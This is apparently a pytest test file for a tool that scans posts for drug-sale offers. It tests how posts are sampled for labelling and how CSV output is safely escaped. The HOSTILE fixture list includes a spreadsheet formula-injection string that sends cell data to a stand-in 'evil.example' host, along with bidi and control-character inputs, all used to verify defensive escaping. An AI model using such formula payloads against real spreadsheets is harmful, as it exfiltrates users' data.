"""Choosing posts to label: near the threshold, spread over strata, near-duplicates collapsed, some exploration."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from pillscan.cli import main
from pillscan.errors import InputError
from pillscan.labels import read_labels
from pillscan.sample import choose_for_labelling, near_duplicate_key


def _frame(n: int = 400, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    return pd.DataFrame(
        {
            # distinct after folding digits: the post number spelled in letters
            "text": ["post " + "".join("abcdefghij"[int(d)] for d in str(i)) for i in range(n)],
            "score": rng.uniform(0, 1, n).round(4),
            "drugs": [["oxycodone"] if i % 3 == 0 else ["alprazolam"] if i % 3 == 1 else [] for i in range(n)],
            "source": [f"file{i % 4}.jsonl" for i in range(n)],
            "author": [f"user{i % 25}" for i in range(n)],
        }
    )


def test_near_duplicates_share_a_key() -> None:
    assert near_duplicate_key("Xanax 2mg!!  DM me 555-1234") == near_duplicate_key("xanax 10mg dm me 555 9999")
    assert near_duplicate_key("xanax 2mg dm me") != near_duplicate_key("percs 30s dm me")


def test_most_are_near_the_threshold_and_spread_over_strata() -> None:
    frame = _frame()
    chosen = choose_for_labelling(frame, 40, 0.4, explore=0.25, seed=1)
    assert len(chosen) == 40 and chosen["text"].is_unique
    near = chosen[chosen["why"].str.startswith("near")]
    assert len(near) == 30
    # the near ones are closer to the threshold than the typical post
    assert (near["score"] - 0.4).abs().median() < (frame["score"] - 0.4).abs().median() / 3
    # spread: more accounts than the 30 posts nearest to the threshold would give, every source
    nearest = frame.loc[(np.log(frame["score"] / (1 - frame["score"])) - np.log(0.4 / 0.6)).abs().nsmallest(30).index]
    assert near["author"].nunique() > nearest["author"].nunique() and near["source"].nunique() == 4
    explored = chosen[chosen["why"].str.startswith("random")]
    assert explored["score"].map(lambda s: int(s * 10)).nunique() >= 8  # from (almost) every score band
    assert chosen.equals(choose_for_labelling(frame, 40, 0.4, explore=0.25, seed=1))  # deterministic


def test_near_copies_are_labelled_once() -> None:
    frame = pd.DataFrame({"text": [f"oxy 30s {i} dm me" for i in range(50)] + ["other post"], "score": 0.4})
    chosen = choose_for_labelling(frame, 10, 0.4)
    assert len(chosen) == 2 and set(chosen["text"]) == {"oxy 30s 0 dm me", "other post"}


def test_bad_requests_are_one_line_errors() -> None:
    with pytest.raises(InputError, match="needs columns text and score"):
        choose_for_labelling(pd.DataFrame({"text": ["a"]}), 1, 0.5)
    with pytest.raises(InputError, match="between 0 and 1"):
        choose_for_labelling(_frame(10), 1, 1.0)


def test_sample_command_writes_a_sheet_train_and_evaluate_read(tmp_path: Path) -> None:
    rows = _frame(60).assign(decision="clean", id=[f"p{i}" for i in range(60)])
    out = tmp_path / "scan.jsonl"
    out.write_text("".join(json.dumps(r) + "\n" for r in rows.to_dict(orient="records")))
    sheet = tmp_path / "to-label.csv"
    assert main(["sample", str(out), "-n", "12", "-o", str(sheet), "--threshold", "0.5"]) == 0
    filled = pd.read_csv(sheet, keep_default_na=False)
    assert len(filled) == 12 and set(filled.columns) >= {"text", "label", "id", "score", "why"}
    filled.loc[:5, "label"] = "offer"
    filled.loc[6:9, "label"] = "not_offer"  # two rows left blank: not decided
    filled.to_csv(sheet, index=False)
    labels = read_labels(sheet, require_both=True)
    assert (labels.offers, labels.not_offers, labels.skipped) == (6, 4, 2)


def test_a_scan_csv_reads_back_as_the_original_text(tmp_path: Path) -> None:
    """A scan's CSV marks formula-looking cells for spreadsheets; choosing posts from it gives the posts as
    they were (so the sheet does not mark them twice)."""
    posts = tmp_path / "in.jsonl"
    texts = ['=HYPERLINK("http://x.example","oxy 30s snap me")', "@plug xanax bars dm", "'=quoted percs for sale"]
    posts.write_text("".join(json.dumps({"id": f"+{i}", "text": t}) + "\n" for i, t in enumerate(texts)))
    out = tmp_path / "out.csv"
    assert main(["-q", "scan", str(posts), "-o", str(out), "--all", "--workers", "1"]) == 0
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8")
    from pillscan.sample import read_scan_output

    rows = read_scan_output([str(out)])
    assert sorted(rows["text"]) == sorted(texts) and sorted(rows["id"]) == ["+0", "+1", "+2"]
    sheet = tmp_path / "sheet.csv"
    assert main(["sample", str(out), "-n", "3", "-o", str(sheet), "--threshold", "0.5"]) == 0
    assert sorted(read_labels_texts(sheet)) == sorted(texts)


def read_labels_texts(sheet: Path) -> list[str]:
    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False).assign(label="offer")
    filled.to_csv(sheet, index=False)
    return list(read_labels(sheet).frame["text"])


# --- pillscan scan --label-sample N --------------------------------------------------------------------------


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s blues, snap me")',
    "+1 555 0100 xanax bars 2mg in stock, telegram @plug",
    "percs m30\r\nready, 1 for 30\rcashapp",  # CR, CRLF inside a post
    "bars \x00 nul and \x1b[31mescape\x1b[0m, dm me",
    "\u202eevil bidi\u202c adderall 30mg ships",
    '"quoted", with, commas, and ""doubled"" quotes, xanax',
    "  ",  # blank: skipped by the scan, never chosen
]


def _posts(tmp_path: Path, n: int = 80) -> Path:
    from conftest import TEXTS

    path = tmp_path / "in.jsonl"
    rows = [{"id": f"h{i}", "text": t} for i, t in enumerate(HOSTILE)]
    tag = ["".join("abcdefghij"[int(d)] for d in str(i)) for i in range(n)]  # distinct once digits are folded
    rows += [{"id": f"p{i}", "text": f"{TEXTS[i % len(TEXTS)]} #{tag[i]}"} for i in range(n)]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_scan_label_sample_is_the_sample_command_s_sheet_and_reads_back(tmp_path: Path, fmt: str) -> None:
    posts = _posts(tmp_path)
    out = tmp_path / f"out.{fmt}"
    assert main(["-q", "scan", str(posts), "-o", str(out), "--label-sample", "30", "--workers", "1"]) == 0
    sheet = tmp_path / "out.to-label.csv"  # the default: beside the output
    assert main(["-q", "sample", str(out), "-n", "30", "-o", str(tmp_path / "s.csv")]) == 0
    assert sheet.read_bytes() == (tmp_path / "s.csv").read_bytes()  # one picker, one sheet format
    filled = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    assert len(filled) == 30 and filled["text"].is_unique and (filled["label"] == "").all()
    filled["label"] = ["offer" if i % 2 else "not_offer" for i in range(len(filled))]
    filled.to_csv(sheet, index=False)
    texts = set(read_labels(sheet).frame["text"])
    hostile = [t for t in HOSTILE if t.strip()]
    # Every hostile post chosen reads back exactly as posted (formulas unmarked, CRs and controls intact).
    assert texts & set(hostile) and all(t in hostile or t.split(" #")[0] in _texts() for t in texts)


def _texts() -> set[str]:
    from conftest import TEXTS

    return set(TEXTS)


def test_scan_label_sample_out_and_refusals(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    posts = _posts(tmp_path, 10)
    out, sheet = tmp_path / "o.jsonl", tmp_path / "mine.csv"
    args = ["-q", "scan", str(posts), "-o", str(out), "--label-sample", "5", "--label-sample-out", str(sheet)]
    assert main(args) == 0
    assert len(pd.read_csv(sheet)) == 5 and not (tmp_path / "o.to-label.csv").exists()
    cases = [
        (["-o", "-", "--label-sample", "5"], "not -o -"),
        (["-o", str(out), "--label-sample", "5", "--no-text"], "drop --no-text"),
        (["-o", str(out), "--label-sample-out", str(sheet)], "needs --label-sample N"),
        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(posts)], "input"),
        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(tmp_path / "no" / "s")], "does not exist"),
        (["-o", str(out), "--label-sample", "5", "--label-sample-out", str(out)], "o.jsonl"),
    ]
    for args, message in cases:
        before = posts.read_bytes()
        code = main(["-q", "scan", str(posts), *args])
        err = capsys.readouterr().err
        assert code != 0 and message in err and "Traceback" not in err, (args, err)
        assert len(err.strip().splitlines()) <= 2, err
        assert posts.read_bytes() == before
    assert main(["-q", "scan", str(posts), "-o", str(out), "--label-sample", "0"]) == 2  # click: at least 1


def test_choosing_from_a_stream_keeps_bounded_candidates_and_the_same_choice_when_small() -> None:
    from pillscan.sample import CANDIDATES_PER_POST, choose_from_rows

    rows = _frame(300).assign(decision="clean").to_dict(orient="records")
    small, seen = choose_from_rows(iter(rows), 20, 0.4, seed=3)
    assert seen == 300
    whole = choose_for_labelling(pd.DataFrame(rows), 20, 0.4, seed=3)
    assert list(small["text"]) == list(whole["text"]) and list(small["why"]) == list(whole["why"])
    # A long stream: only the closest candidates on each side and a reservoir per band are kept.
    kept: list[int] = []
    import pillscan.sample as sample_module

    real = sample_module.choose_for_labelling

    def spy(frame: pd.DataFrame, *args: object, **kwargs: object) -> pd.DataFrame:
        kept.append(len(frame))
        return real(frame, *args, **kwargs)  # type: ignore[arg-type]

    big = _frame(30_000, seed=1).assign(decision="clean").to_dict(orient="records")
    try:
        sample_module.choose_for_labelling = spy  # type: ignore[assignment]
        chosen, seen = choose_from_rows(iter(big), 10, 0.4, seed=3)
    finally:
        sample_module.choose_for_labelling = real  # type: ignore[assignment]
    keep = max(CANDIDATES_PER_POST * 10, 1000)
    assert seen == 30_000 and len(chosen) == 10 and kept[0] <= 2 * keep + 10 * 10
    near = chosen[chosen["why"].str.startswith("near")]
    assert (np.abs(near["score"] - 0.4) < 0.05).all()  # the closest of the whole stream, not of a prefix
